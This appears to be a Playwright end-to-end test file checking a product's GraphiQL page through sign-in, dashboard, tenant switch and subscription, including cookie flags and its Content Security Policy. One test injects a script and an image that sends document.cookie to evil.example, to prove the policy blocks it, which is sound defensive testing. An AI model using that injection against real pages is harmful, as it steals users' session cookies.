"""GraphiQL in a real browser against the whole product: sign-in, dashboard, tenant switch and subscription."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import TypedDict, cast
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser, ConsoleMessage, Page, Request, WebSocket, expect

from tests.end_to_end.client import Client
from tests.stack import Stack

SECONDS = 1000  # Playwright counts in milliseconds
RECORD_POLICY_VIOLATIONS = """
window.violations = [];
addEventListener("securitypolicyviolation", (event) =>
  violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""


class Frame(TypedDict, total=False):
    type: str
    payload: dict[str, dict[str, dict[str, object]]]


class GraphiQLPage:
    """A page with GraphiQL that records console errors, requests to other hosts and frames from websockets."""

    def __init__(self, page: Page, url: str) -> None:
        self.page = page
        self.console_errors: list[str] = []
        self.foreign_requests: list[str] = []
        self.frames: list[Frame] = []
        self._host = urlsplit(url).netloc
        page.on("console", self._on_console)
        page.on("pageerror", lambda error: self.console_errors.append(str(error)))
        page.on("request", self._on_request)
        page.on("websocket", self._on_websocket)

    async def run(self, tab: str) -> None:
        """Open the tab and execute its document."""
        await self.page.get_by_role("tab", name=tab).click()
        await expect(self.page.locator(".graphiql-query-editor")).to_contain_text(tab)
        await self.page.get_by_role("button", name=re.compile("Execute query")).click()

    async def expect_response(self, *texts: str) -> None:
        """Expect these texts near the top of the response; Monaco renders only visible lines."""
        for text in texts:
            await expect(self.page.locator(".result-window")).to_contain_text(text, timeout=15 * SECONDS)

    def _on_console(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.console_errors.append(message.text)

    def _on_request(self, request: Request) -> None:
        if urlsplit(request.url).netloc not in {self._host, ""}:
            self.foreign_requests.append(request.url)

    def _on_websocket(self, socket: WebSocket) -> None:
        socket.on("framereceived", lambda data: self.frames.append(cast(Frame, json.loads(data))))


@pytest.mark.usefixtures("explorer")
async def test_signs_in_queries_switches_the_tenant_and_follows_the_switch(
    browser: Browser, dev_stack: Stack, artifacts: Path
) -> None:
    ada = Client(dev_stack)
    await ada.log_in("ada@example.com")
    await ada.ensure_tenant("Acme")
    page = await browser.new_page(viewport={"width": 1440, "height": 1000})
    graphiql = GraphiQLPage(page, dev_stack.url)
    await page.add_init_script(RECORD_POLICY_VIOLATIONS)
    opened = await page.goto(f"{dev_stack.url}/graphiql")
    assert opened is not None
    assert "script-src 'self';" in opened.headers["content-security-policy"]
    await expect(page.get_by_role("tab")).to_contain_text(["LogIn", "Dashboard", "SwitchTenant", "FollowOperation"])
    await expect(page.locator(".graphiql-editor-tool")).to_contain_text("ada@example.com")

    await graphiql.run("LogIn")
    await graphiql.expect_response('"status": "COMPLETED"', '"name": "verify_credentials"')
    await page.screenshot(path=artifacts / "graphiql-log-in.png")
    cookies = await page.context.cookies()
    assert {cookie["name"] for cookie in cookies} == {"adx_session", "adx_device"}
    assert all(cookie["httpOnly"] and cookie["sameSite"] in {"Lax", "Strict"} for cookie in cookies)

    await graphiql.run("Dashboard")
    await graphiql.expect_response('"email": "ada@example.com"', '"tenant": { "name": "Acme"')
    await page.screenshot(path=artifacts / "graphiql-dashboard.png")

    await graphiql.run("SwitchTenant")
    await graphiql.expect_response('"sessionToken"', '"status": ', '"name": "Globex"')

    await graphiql.run("FollowOperation")
    await graphiql.expect_response('"kind": "TENANT_SWITCH"', '"status": "COMPLETED"')
    await expect(page.get_by_role("button", name=re.compile("Execute query"))).to_be_visible()
    await page.screenshot(path=artifacts / "graphiql-follow.png")
    assert [frame["type"] for frame in (graphiql.frames[0], graphiql.frames[-1])] == ["connection_ack", "complete"]
    final = graphiql.frames[-2]["payload"]["data"]["operation"]
    assert final["status"] == "COMPLETED"
    traces = [
        number
        for number, frame in enumerate(graphiql.frames)
        if "trace" in frame.get("payload", {}).get("extensions", {})
    ]
    assert traces == [1]  # GraphiQL requests a trace, which only the first result of a subscription has

    await graphiql.run("Dashboard")
    await graphiql.expect_response('"tenant": { "name": "Globex"')
    assert await page.evaluate("violations") == []
    assert graphiql.console_errors == []
    assert graphiql.foreign_requests == []


async def test_content_security_policy_blocks_injected_scripts_and_images(browser: Browser, dev_stack: Stack) -> None:
    """Proves that the other test would notice a violation."""
    page = await browser.new_page()
    await page.add_init_script(RECORD_POLICY_VIOLATIONS)
    await page.goto(f"{dev_stack.url}/graphiql")
    await page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.stolen = true";
        document.body.append(script);
        const stranger = document.createElement("img");
        stranger.src = "https://evil.example/?" + document.cookie;
        document.body.append(stranger);
    }""")
    await page.wait_for_function("violations.length >= 2")
    assert {each.split()[0] for each in await page.evaluate("violations")} == {"script-src-elem", "img-src"}
    assert await page.evaluate("window.stolen") is None
